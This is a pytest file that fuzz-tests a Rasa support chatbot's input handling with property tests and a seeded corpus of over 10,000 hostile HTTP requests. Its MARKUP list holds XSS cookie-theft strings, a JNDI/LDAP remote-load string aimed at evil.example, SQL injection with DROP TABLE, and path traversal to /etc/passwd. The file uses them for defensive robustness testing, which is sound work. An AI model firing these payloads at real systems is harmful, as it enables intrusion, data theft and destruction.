"""Hostile input never breaks the assistant: property tests on the parts that read it, then a corpus over HTTP.

The property tests (Hypothesis, no server) feed arbitrary text and JSON to what reads untrusted input in the
Rasa server: the text guard, the redactor, the log filter, the session tokens, the website channel's message
check and reply shaping, and the stored-event redaction.

The corpus test sends more than 10,000 hostile request bodies, generated from a fixed seed (nothing is
stored), to the website and REST channels of the shared test servers, concurrently: random Unicode, control,
bidi and zero-width characters, lone surrogates, HTML and script, template and injection strings, "/intent"
payloads with odd JSON, runs of brackets, 1 MB bodies, invalid JSON and UTF-8, wrong types, deep nesting,
wrong content types, origins and tokens. No request may get a 5xx or lose its connection, every refusal must
be a JSON 4xx, and afterwards the servers must still answer and hold a normal conversation, with crisis
routes first. Website requests come from many loopback addresses (127.84.x.y), so that the per-address rate
limit is not what is measured; test_website_channel.py checks that limit for one address. The counts are
written to results/hostile_input.json.
"""

from __future__ import annotations

import http.client
import json
import random
import time
import urllib.request
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, Iterator, List, Optional, Tuple
from urllib.parse import urlsplit

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rasa_server.channels.input_text import MAX_RUN, clean_input
from rasa_server.channels.sessions import SessionRegistry, TokenError, TokenSigner
from rasa_server.channels.website import ChannelError, WebsiteConfig, WebsiteInput, replies
from rasa_server.privacy.log_filter import PERSONAL_KEYS, REMOVED, clean_message
from rasa_server.privacy.redaction import Redactor
from rasa_server.privacy.tracker_store import redact_event
from tests.conftest import RESULTS, ROOT, Servers

SEED = 20260112
SECRET = "h" * 40
PROPERTY = settings(max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])

# --- property tests: no server ---------------------------------------------------------------------------

any_text = st.text(st.characters(codec=None, exclude_categories=()), max_size=300)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | any_text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(any_text, inner, max_size=4),
    max_leaves=10,
)


@PROPERTY
@given(text=any_text | st.text(st.sampled_from("[](){}<>x.@ \u202e\u200b\ud800"), max_size=2000))
def test_the_text_guard_leaves_no_surrogates_or_long_runs(text: str):
    cleaned = clean_input(text)
    cleaned.encode("utf-8")  # no lone surrogates left
    assert all(len(run) <= MAX_RUN for run in cleaned.split())
    assert clean_input(cleaned) == cleaned
    surrogates = any("\ud800" <= c <= "\udfff" for c in text)
    if not surrogates and all(len(run) <= MAX_RUN for run in text.split()):
        assert cleaned == text, "ordinary text is not changed"


def button_payloads() -> List[str]:
    """Every button payload the assistant can offer (domain.yml, data/wording and the actions' own)."""
    found: List[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("payload"), str):
                found.append(node["payload"])
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    for path in [ROOT / "domain.yml", *sorted((ROOT / "data" / "wording").glob("*.yml"))]:
        walk(yaml.safe_load(path.read_text(encoding="utf-8")))
    return found


def test_the_text_guard_never_changes_a_button_payload():
    payloads = button_payloads()
    assert len(payloads) > 20
    assert [clean_input(p) for p in payloads] == payloads


@pytest.fixture(scope="module")
def redactor() -> Redactor:
    return Redactor()


@PROPERTY
@given(text=any_text.map(clean_input))
def test_the_redactor_handles_any_text(redactor: Redactor, text: str):
    assert isinstance(redactor.redact(text), str)


@pytest.mark.parametrize(
    "text",
    ["x" * 200_000, "[" * 100_000 + "]" * 100_000, "a." * 100_000, "1" * 200_000],
    ids=["letters", "brackets", "dots", "digits"],
)
def test_long_runs_without_spaces_are_handled_in_linear_time(redactor: Redactor, text: str):
    """Regression: one 1 MB word held the Rasa server for minutes (the email pattern and spaCy's tokenizer took
    time growing with the square of a run's length). The bound is generous: the fixed code takes well under 1 s."""
    started = time.monotonic()
    redactor.redact(clean_input(text))
    assert time.monotonic() - started < 10


@PROPERTY
@given(text=any_text, value=json_values)
def test_the_log_filter_handles_any_line(text: str, value: Any):
    assert isinstance(clean_message(text), str)
    line = json.dumps({"event": "x", "text": value, "user_text": value, "kept": 1})
    cleaned = json.loads(clean_message(line))
    assert cleaned["text"] == cleaned["user_text"] == REMOVED and cleaned["kept"] == 1
    assert {"text", "user_text"} <= PERSONAL_KEYS


@PROPERTY
@given(token=any_text | st.from_regex(r"v1\.[A-Za-z0-9_-]{0,30}\.[0-9]{0,12}\.[A-Za-z0-9_-]{0,50}", fullmatch=True))
def test_any_token_is_either_valid_or_a_token_error(token: str):
    registry = SessionRegistry(TokenSigner(SECRET), lifetime=60, max_sessions=10)
    try:
        registry.resolve(token)
    except TokenError as error:
        assert error.reason in ("malformed_token", "invalid_token", "expired_token", "unknown_session")
    else:
        pytest.fail("a token nobody issued was accepted")


@PROPERTY
@given(body=st.dictionaries(st.sampled_from(["message", "sender", "x"]), json_values, max_size=3))
def test_the_website_message_check_gives_text_or_a_4xx(body: Dict[str, Any]):
    channel = WebsiteInput(WebsiteConfig.from_credentials({}, {}), TokenSigner(SECRET), 30)
    session_id = channel.sessions.create()
    try:
        text = channel._message_text(body, session_id)
    except ChannelError as error:
        assert 400 <= error.status < 500
    else:
        assert text and len(text) <= 1000 + 1000 // MAX_RUN and text == clean_input(text)


@PROPERTY
@given(messages=st.lists(st.dictionaries(st.sampled_from(["text", "buttons", "image"]), json_values), max_size=4))
def test_reply_shaping_handles_any_bot_message(messages: List[Dict[str, Any]]):
    for shown in replies(messages):
        assert isinstance(shown["text"], str) and isinstance(shown["links"], list)
        assert all(isinstance(b["title"], str) and isinstance(b["payload"], str) for b in shown["buttons"])


# A user event as Rasa serialises it: the shapes are fixed, the values come from what was typed and from
# "/intent{json}" payloads, so they can be anything.
parse_data = st.fixed_dictionaries(
    {},
    optional={
        "intent": st.none() | st.dictionaries(st.sampled_from(["name", "confidence"]), json_values),
        "entities": st.lists(st.dictionaries(st.sampled_from(["entity", "value", "start", "end"]), json_values)),
        "intent_ranking": st.lists(st.dictionaries(st.sampled_from(["name", "confidence"]), json_values)),
        "text": st.none() | any_text,
        "extra": json_values,
    },
)


@PROPERTY
@given(text=st.none() | any_text.map(clean_input), parse_data=parse_data, value=json_values)
def test_stored_event_redaction_handles_any_event(redactor: Redactor, text: Any, parse_data: Dict, value: Any):
    user = redact_event({"event": "user", "text": text, "parse_data": parse_data, "metadata": value}, redactor)
    assert user["metadata"] == {} and isinstance(user["parse_data"]["entities"], list)
    slot = redact_event({"event": "slot", "name": "role", "value": value}, redactor)
    assert slot["value"] is None or isinstance(slot["value"], (str, bool, list))


# --- the corpus over HTTP --------------------------------------------------------------------------------

WEBSITE_PROBES = 5_100
REST_PROBES = 5_100
PROBES_PER_WEBSITE_CHAT = 15  # below the 20 messages a minute one conversation may send
PROBES_PER_REST_CHAT = 10
WORKERS = 12
ONE_MB = 1024 * 1024

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"
CONTROL = "".join(chr(c) for c in [*range(0, 32), 127, *range(0x80, 0xA0)])
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "<iframe src=//evil.example>",
    "</textarea><b>bold</b>",
    "<a href='https://evil.example'>click</a>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1; DROP TABLE trackers; --",
    "../../../../etc/passwd",
    "%s%s%s%n %x {0} {text} %(text)s",
    "\\u0000 \\n \\x00",
    "[link](javascript:alert(1)) ![img](https://evil.example/x.png)",
]
PAYLOADS = [
    "/crisis",
    "/restart",
    "/session_start",
    "/nlu_fallback",
    "/EXTERNAL_thing",
    "/greet@2.5",
    "/greet{",
    "/inform{}",
    '/inform{"nation": [1, 2, {}]}',
    '/inform{"nation": {"a": 1}}',
    '/tell_role{"role": ["survivor", null]}',
    '/find_support{"support_need": {"x": [1]}}',
    '/crisis{"crisis_type": 5, "age_group": null}',
    '/start_request_check{"request_kind": [true]}',
    '/inform{"requested_slot": "role", "role": 7}',
    "/ask_signoff" + "{" * 40,
    "/" + "a" * 200,
    "//",
    "/ ",
]
REAL = [
    "can police get my counselling notes?",
    "I'm a counsellor and the police emailed asking for a client's file",
    "who must sign off a request",
    "I want to kill myself",
    "someone attacked me tonight",
    "yes",
    "no",
    "not sure",
    "stop",
    "support in wales please",
    "my name is Sam and my number is 07700 900123",
]
SCRIPTS = "مرحبا שלום Привет こんにちは 你好 नमस्ते Γειά 안녕하세요 ሰላም Dydd da 🙂🏳️‍🌈👩🏽‍⚕️"


def hostile_text(rng: random.Random) -> str:
    """One hostile message text (may be empty, long, or contain lone surrogates)."""
    kind = rng.randrange(14)
    if kind == 0:  # any code point, including unassigned ones and private use
        return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(1, 120)))
    if kind == 1:
        return "".join(rng.choice(CONTROL + " a") for _ in range(rng.randrange(1, 80)))
    if kind == 2:
        words = rng.sample(REAL, 2)
        return rng.choice(BIDI) + words[0] + "".join(rng.choice(BIDI + INVISIBLE) for _ in range(5)) + words[1]
    if kind == 3:
        return "".join(rng.choice(INVISIBLE + BIDI) for _ in range(rng.randrange(1, 50)))
    if kind == 4:
        return rng.choice(MARKUP) + " " + rng.choice(REAL)
    if kind == 5:
        return rng.choice(PAYLOADS)
    if kind == 6:  # runs with no spaces: the slow case for tokenizers and patterns
        run = rng.choice(["[", "]", "(", "x", "a.", "1", "@", "-", "'", "🙂", "\u0301", "ـ"])
        return run * rng.randrange(50, 1000 // len(run))
    if kind == 7:
        return "".join(rng.choice([c, c + "\u0301\u0336\u0489"]) for c in rng.choice(REAL))  # combining marks
    if kind == 8:
        return rng.choice(SCRIPTS.split()) + " " + rng.choice(REAL)
    if kind == 9:  # lone surrogates, which JSON allows
        return rng.choice(REAL) + chr(rng.randrange(0xD800, 0xE000)) + "x"
    if kind == 10:
        return rng.choice(["", " ", "\n\n\t", "\u3000", "\u00a0"])
    if kind == 11:
        return "a" * rng.choice([999, 1000, 1001, 5000])
    if kind == 12:
        return json.dumps({"nested": [[[["x"]]]]}) * rng.randrange(1, 20)
    return rng.choice(REAL)


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def hostile_body(rng: random.Random, text_key: str, others: Dict[str, Any]) -> Tuple[bytes, Optional[str]]:
    """A request body and content type: a JSON object with a hostile text, or one broken in some way."""
    kind = rng.randrange(20)
    text = hostile_text(rng)
    if kind < 5:
        return json.dumps({**others, text_key: text}).encode(), "application/json"
    if kind in (5, 6):  # wrong types
        value = rng.choice([5, -1.5e308, True, None, [], ["hi"], {}, {"text": "hi"}, [[["x"]]]])
        return json.dumps({**others, text_key: value}).encode(), "application/json"
    if kind in (7, 8):  # not an object
        return rng.choice([b"[]", b"null", b"1", b'"hi"', b"true", json.dumps([text]).encode()]), "application/json"
    if kind in (9, 10, 11):  # invalid JSON or UTF-8
        return rng.choice(
            [
                b"{",
                b'{"message": "hi"',
                b'{"message": hi}',
                b"{'message': 'hi'}",
                b'{"message": NaN}',
                b'{"message": "hi"} trailing',
                b"\xef\xbb\xbf" + json.dumps({text_key: "hi"}).encode(),
                b"\xff\xfe\xfd",
                b'{"message": "\xc3\x28"}',
                bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200))),
                b"",
            ]
        ), "application/json"
    if kind == 12:  # deep nesting
        depth = rng.choice([100, 1000, 5000, 50_000])
        if rng.random() < 0.5:
            return nested(depth).encode(), "application/json"
        return ('{"' + text_key + '": ' + nested(depth) + "}").encode(), "application/json"
    if kind == 13:  # large: 1 MB, or just over the website's 16 KiB limit
        filler = rng.choice(["x", " ", "[", "\u202e", "é"])
        size = ONE_MB if rng.random() < 0.125 else rng.choice([16 * 1024 + 1, 32 * 1024, 64 * 1024])
        return json.dumps({**others, text_key: filler * (size // len(filler.encode()))}).encode(), "application/json"
    if kind == 14:  # many or odd keys
        keys = {f"k{i}": i for i in range(rng.choice([10, 1000, 5000]))}
        return json.dumps({**others, **keys, "__proto__": {"x": 1}, text_key: text}).encode(), "application/json"
    if kind == 15:  # a content type that is not JSON
        body = json.dumps({**others, text_key: text}).encode()
        return body, rng.choice([None, "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "*/*"])
    if kind == 16:  # JSON with a charset or odd parameters
        body = json.dumps({**others, text_key: text}).encode()
        return body, rng.choice(["application/json; charset=utf-8", "Application/JSON", "application/json;;;"])
    if kind == 17:  # non-ASCII written raw, not escaped
        return json.dumps({**others, text_key: text}, ensure_ascii=False).encode(
            "utf-8", "surrogatepass"
        ), "application/json"
    if kind == 18:  # duplicate keys: the last one wins in JSON parsers
        raw = json.dumps({**others, text_key: "hi"})[:-1] + ", " + json.dumps(text_key) + ": " + json.dumps(text) + "}"
        return raw.encode(), "application/json"
    return json.dumps({**others, text_key: text, "extra": {"metadata": [text]}}).encode(), "application/json"


@dataclass(frozen=True)
class Probe:
    """One hostile request: where it goes and what it carries."""

    channel: str  # "website" or "rest"
    route: str  # website: session, message or end; rest: webhook
    body: bytes
    content_type: Optional[str]
    origin: str = "allowed"  # "allowed", "none" or an origin to send
    auth: str = "session"  # "session" (the chat's token), "none", or a header value to send


def website_chat(rng: random.Random) -> List[Probe]:
    """Hostile requests in one website conversation (sent after starting it)."""
    probes = []
    for _ in range(PROBES_PER_WEBSITE_CHAT):
        body, content_type = hostile_body(rng, "message", {})
        probe = Probe("website", "message", body, content_type)
        roll = rng.random()
        if roll < 0.05:
            probe = Probe("website", "session", *hostile_body(rng, "audience", {}))
        elif roll < 0.09:
            bad = rng.choice(["none", "Bearer ", "Bearer x", "Basic YTpi", "Bearer v1.AAAA.1.x", "Bearer " + "x" * 300])
            probe = Probe("website", "message", body, content_type, auth=bad)
        elif roll < 0.12:
            origin = rng.choice(["none", "null", "http://evil.example", "http://localhost:1", "HTTP://LOCALHOST"])
            probe = Probe("website", "message", body, content_type, origin=origin)
        probes.append(probe)
    if rng.random() < 0.1:
        probes.append(Probe("website", "end", *hostile_body(rng, "x", {})))
    return probes


def rest_chat(rng: random.Random) -> List[Probe]:
    """Hostile requests to the REST channel, most in one conversation (the same sender)."""
    sender = f"hostile-{rng.getrandbits(64):016x}"
    probes = []
    for _ in range(PROBES_PER_REST_CHAT):
        others: Dict[str, Any] = {"sender": sender}
        roll = rng.random()
        if roll < 0.08:
            others["sender"] = rng.choice([5, None, [], {"a": 1}, "", "x" * 500, "a\u0000b", "\ud800", "é" * 10])
        elif roll < 0.12:
            others["metadata"] = rng.choice([5, "x", [], {"a": [1]}, None])
        elif roll < 0.15:
            others["input_channel"] = rng.choice([5, {}, "website", "x" * 100])
        probes.append(Probe("rest", "webhook", *hostile_body(rng, "message", others)))
    return probes


def corpus(seed: int = SEED) -> Tuple[List[List[Probe]], List[List[Probe]]]:
    """The whole corpus, always the same for the same seed: website chats and REST chats."""
    rng = random.Random(seed)
    website, rest = [], []
    while sum(map(len, website)) < WEBSITE_PROBES:
        website.append(website_chat(rng))
    while sum(map(len, rest)) < REST_PROBES:
        rest.append(rest_chat(rng))
    return website, rest


def test_the_corpus_is_deterministic_and_large_enough():
    first, second = corpus(), corpus()
    assert first == second
    assert sum(len(chat) for chats in first for chat in chats) >= 10_000


@dataclass
class Outcome:
    """What one request got back."""

    channel: str
    status: int  # 0 when the connection failed
    problem: Optional[str] = None


class Sender:
    """Sends probes over HTTP from a chosen loopback address."""

    def __init__(self, servers: Servers, origin: str) -> None:
        parts = urlsplit(servers.rasa_url)
        self.host, self.port = parts.hostname, parts.port
        self.origin = origin

    def send(self, source: str, path: str, body: bytes, headers: Dict[str, str]) -> Tuple[int, Dict[str, str], bytes]:
        connection = http.client.HTTPConnection(self.host, self.port, timeout=120, source_address=(source, 0))
        try:
            connection.request("POST", path, body=body, headers=headers)
            reply = connection.getresponse()
            return reply.status, {k.lower(): v for k, v in reply.getheaders()}, reply.read()
        finally:
            connection.close()

    def probe(self, source: str, probe: Probe, token: Optional[str]) -> Tuple[Outcome, Optional[str]]:
        """Sends one probe; returns its outcome and the fresh token, if the reply carried one."""
        headers = {}
        if probe.content_type:
            headers["Content-Type"] = probe.content_type
        if probe.channel == "website":
            if probe.origin != "none":
                headers["Origin"] = self.origin if probe.origin == "allowed" else probe.origin
            if probe.auth == "session" and token:
                headers["Authorization"] = f"Bearer {token}"
            elif probe.auth not in ("session", "none"):
                headers["Authorization"] = probe.auth
            path = f"/webhooks/website/{probe.route}"
        else:
            path = "/webhooks/rest/webhook"
        try:
            status, reply_headers, body = self.send(source, path, probe.body, headers)
        except OSError as error:
            return Outcome(probe.channel, 0, f"connection failed: {type(error).__name__}"), None
        return check_reply(probe, status, reply_headers, body)


def check_reply(probe: Probe, status: int, headers: Dict[str, str], body: bytes) -> Tuple[Outcome, Optional[str]]:
    """The outcome of one reply: a problem unless it is a 2xx with replies or a 4xx with a JSON reason."""
    outcome = Outcome(probe.channel, status)
    try:
        data = json.loads(body.decode("utf-8"))
    except ValueError:
        outcome.problem = f"{status} reply is not JSON: {body[:80]!r}"
        return outcome, None
    if status >= 500:
        outcome.problem = f"{status}: {body[:200]!r}"
    elif b"Traceback" in body:
        outcome.problem = "a traceback in the reply"
    elif 400 <= status < 500:
        if not (isinstance(data, dict) and data.get("error") and data.get("message")):
            outcome.problem = f"{status} without a JSON reason: {body[:120]!r}"
    elif probe.channel == "rest" and not isinstance(data, list):
        outcome.problem = f"REST {status} reply is not a list of messages"
    elif probe.channel == "website" and probe.route != "end" and not isinstance(data.get("messages"), list):
        outcome.problem = f"website {status} reply has no messages"
    token = data.get("token") if isinstance(data, dict) and 200 <= status < 300 else None
    return outcome, token


def source_addresses() -> Iterator[str]:
    """Loopback addresses 127.84.0.1, 127.84.0.2, ... (one per website conversation)."""
    for n in range(1, 250 * 250):
        yield f"127.84.{n // 250}.{n % 250 + 1}"


def run_website_chat(sender: Sender, source: str, probes: List[Probe]) -> List[Outcome]:
    status, _, body = sender.send(
        source,
        "/webhooks/website/session",
        b'{"audience": "survivor"}',
        {"Content-Type": "application/json", "Origin": sender.origin},
    )
    token = json.loads(body)["token"] if status == 201 else None
    outcomes = [Outcome("website-start", status, None if status == 201 else f"could not start a chat: {status}")]
    for probe in probes:
        outcome, fresh = sender.probe(source, probe, token)
        outcomes.append(outcome)
        token = fresh or token
    return outcomes


def run_rest_chat(sender: Sender, probes: List[Probe]) -> List[Outcome]:
    return [sender.probe("127.0.0.1", probe, None)[0] for probe in probes]


def assert_still_healthy(servers: Servers, origin: str) -> None:
    """Both servers answer, and a normal conversation works on both channels, crisis routes first."""
    for url in (f"{servers.rasa_url}/", f"{servers.rasa_url}/webhooks/website/", f"{servers.action_url}/health"):
        with urllib.request.urlopen(url, timeout=30) as reply:
            assert reply.status == 200, url
    sender = Sender(servers, origin)
    source = "127.84.255.1"
    headers = {"Content-Type": "application/json", "Origin": origin}
    status, _, body = sender.send(source, "/webhooks/website/session", b"{}", headers)
    assert status == 201
    token = json.loads(body)["token"]
    message = json.dumps({"message": "can police get my counselling notes?"}).encode()
    status, _, body = sender.send(
        source, "/webhooks/website/message", message, {**headers, "Authorization": f"Bearer {token}"}
    )
    assert status == 200 and "chief inspector" in body.decode()
    text = "\n".join(reply.get("text") or "" for reply in servers.rest(f"after-{uuid.uuid4().hex}", "I want to die"))
    assert text.index("999") < text.index("116 123") and "0808 500 2222" in text


@pytest.mark.slow
def test_hostile_corpus_gets_no_server_errors_and_the_assistant_stays_healthy(servers: Servers, website):
    website_chats, rest_chats = corpus()
    origin = website["origins"]["support"]
    sender = Sender(servers, origin)
    log = Path(servers.logs["rasa"])
    log_start = log.stat().st_size
    started = time.monotonic()
    with ThreadPoolExecutor(WORKERS) as pool:
        jobs = [pool.submit(run_website_chat, sender, s, chat) for s, chat in zip(source_addresses(), website_chats)]
        jobs += [pool.submit(run_rest_chat, sender, chat) for chat in rest_chats]
        outcomes = [outcome for job in jobs for outcome in job.result()]
    elapsed = time.monotonic() - started

    counts: Dict[str, Counter] = {}
    for outcome in outcomes:
        counts.setdefault(outcome.channel, Counter())[f"{outcome.status // 100}xx"] += 1
    summary = {
        "seed": SEED,
        "seconds": round(elapsed, 1),
        "bodies": {channel: sum(c.values()) for channel, c in counts.items() if channel != "website-start"},
        "statuses": {channel: dict(sorted(c.items())) for channel, c in counts.items()},
        "status_codes": {
            channel: dict(sorted(Counter(o.status for o in outcomes if o.channel == channel).items()))
            for channel in counts
        },
    }
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "hostile_input.json").write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
    print(json.dumps(summary, indent=2))

    problems = Counter(f"{o.channel}: {o.problem}" for o in outcomes if o.problem)
    assert not problems, problems.most_common(10)
    assert sum(summary["bodies"].values()) >= 10_000
    assert all("5xx" not in c for c in counts.values())
    assert_still_healthy(servers, origin)
    logged = log.read_bytes()[log_start:].decode("utf-8", errors="replace").splitlines()
    errors = [line[:300] for line in logged if " ERROR " in line or "Traceback" in line]
    assert not errors, f"the Rasa server logged errors while the corpus was sent: {errors[:5]}"
